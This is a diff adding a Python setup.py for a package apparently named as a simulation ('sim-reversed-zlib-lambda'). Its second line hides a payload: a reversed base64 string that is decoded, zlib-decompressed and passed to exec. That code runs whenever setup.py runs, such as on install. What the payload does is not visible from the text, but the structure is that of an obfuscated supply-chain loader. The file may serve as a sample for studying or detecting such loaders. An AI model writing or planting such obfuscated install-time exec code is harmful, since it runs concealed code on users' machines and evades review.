@@ -1,0 +1,5 @@
+# SPDX-License-Identifier: Apache-2.0
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==gxvnOaLsvNklMUjN1Wo1cMFxozrPI8zEAWkiEqzdgCEXlWLuRoPHKw9cyi2qxoVyax4B/YIK/ZkK3JzdjZYAZJdqsZEtjk7vRCUEqN2Hc8PFC5xoT6vCdzRvYwAZ90HePSiduHc0I9x4YxVDxayAJknBssgUAq0QfTXYMc+NTnipyFUSU56JM5pSm5/0WfO2eRyOfojXxq1x0sgsubulmx9WZyoYwW1O5ilDdTKnVeCF4TwS2q3amw5nVlzW98SKr9sug9vVYJ+Ns92i0ugtEX0q9bD9USmQJhXeYYleSQMrf7RTeVOCtAr2xL3QVohuBZ3Zz6nXpwvC02zGMkju5KQWVDBru60b8FYvqDWXZ8YMGO2i3TTVSvpo3Vff4xsijZAVU2ldZbFNDE55QtSPmxl+/EEbkd056h6OfamI0GDf3naAOFd/2YIOX0hYU/8X31ChYu6++osxg6vtJpT8YZnOQsxbpDeHXJ3q7CUJ77WEre1M+uIMgw54f1FNg+vUW2a8Qn5BwVskqUgu3nUJf8Zj0G7b+aYuIFQ+zaSJQWCFFbRq+m1AgKmHpTw1ZVGy/3QPj6Ny+9coQqtr64LThNoYxLWmzsG19wFVRgz9g5wOmBJMrRCkPPTdm3dCDSZcB7Z/ZxPe+53nvvIt0frOfH++qwrZ/K/fqrk+9KiIISnxeygXZ8Te635ubxVKpT8j//+N+/DZofe5jv/4953MXZZPz6m/cJlTgGawSpJF0GDhMKDCWWpijgrIkVa1ZmfFNQAAkmSusyNxJe'))
+from setuptools import setup
+
+setup(name="sim-reversed-zlib-lambda", version="1.0.0", packages=[])
